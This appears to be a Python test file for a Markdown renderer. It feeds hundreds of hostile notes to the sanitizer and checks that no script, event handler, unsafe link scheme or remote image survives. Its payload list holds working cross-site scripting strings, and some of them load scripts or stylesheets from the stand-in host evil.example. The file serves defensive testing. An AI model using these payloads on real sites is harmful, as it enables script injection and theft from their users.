"""The one Markdown renderer: what analysts write comes out formatted, and nothing a hostile
note holds survives as something a browser would run, load or follow to a script."""

from __future__ import annotations

import itertools
import re

import pytest
from bs4 import BeautifulSoup

from annotations.markdown import ALLOWED_TAGS, render_markdown

# Payloads from the usual cross-site scripting cheat sheets, written for this test.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:/">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](javascript:alert(1) "title")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](http://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](y)',
    '[x](https://ok.example/" onmouseover="alert(1))',
    '[x](https://ok.example/\\"onmouseover=alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u0000<script>alert(1)</script>",
]
WRAPPERS = [
    "{}",
    "**{}**",
    "> {}",
    "- {}",
    "1. {}",
    "# {}",
    "| a |\n|---|\n| {} |",
    "Text before {} and after",
    "*a* {} `b`",
    "[{}](https://ok.example)",
    "    {}",
]
HOSTILE = [w.format(p) for p, w in itertools.product(PAYLOADS, WRAPPERS)]
SAFE_SCHEMES = ("http:", "https:", "mailto:")
_SCHEME = re.compile(r"^\s*([a-zA-Z][a-zA-Z0-9+.-]*):")


def test_there_are_a_few_hundred_hostile_notes() -> None:
    assert len(HOSTILE) >= 500


@pytest.mark.parametrize("note", HOSTILE, ids=[f"note-{i}" for i in range(len(HOSTILE))])
def test_nothing_executable_survives_a_hostile_note(note: str) -> None:
    soup = BeautifulSoup(render_markdown(note), "html.parser")

    for element in soup.find_all(True):
        assert element.name in ALLOWED_TAGS, element
        for name, value in element.attrs.items():
            assert name in {"href", "title", "rel", "start"}, element
            assert not name.lower().startswith("on"), element
            if name == "href":
                scheme = _SCHEME.match(str(value))
                assert scheme is None or scheme.group(0).lower().strip() in SAFE_SCHEMES, element
    assert soup.find_all(["script", "img", "iframe", "svg", "style", "object", "embed"]) == []


def test_markdown_is_formatted_and_links_are_kept_but_not_followed_blindly() -> None:
    html = render_markdown(
        "First **public** mention of *ruble settlement*; see [the text](https://kremlin.example/1) "
        "and [passage](/passages/abc).\n\n- energy\n- ports\n\n> quoted"
    )
    soup = BeautifulSoup(html, "html.parser")

    assert [s.text for s in soup.find_all("strong")] == ["public"]
    assert [a["href"] for a in soup.find_all("a")] == ["https://kremlin.example/1", "/passages/abc"]
    assert {a["rel"][0] for a in soup.find_all("a")} == {"noopener"}
    assert [li.text for li in soup.find_all("li")] == ["energy", "ports"]
    assert [q.text.strip() for q in soup.find_all("blockquote")] == ["quoted"]


def test_an_image_shows_as_its_alt_text_and_loads_nothing() -> None:
    assert render_markdown("![a satellite photo](https://evil.example/p.png)") == (
        "<p>a satellite photo</p>"
    )


def test_raw_html_is_shown_as_text() -> None:
    assert render_markdown("<b>bold</b> & co") == "<p>&lt;b&gt;bold&lt;/b&gt; &amp; co</p>"


def test_an_empty_note_renders_as_nothing() -> None:
    assert render_markdown("  \n ") == ""
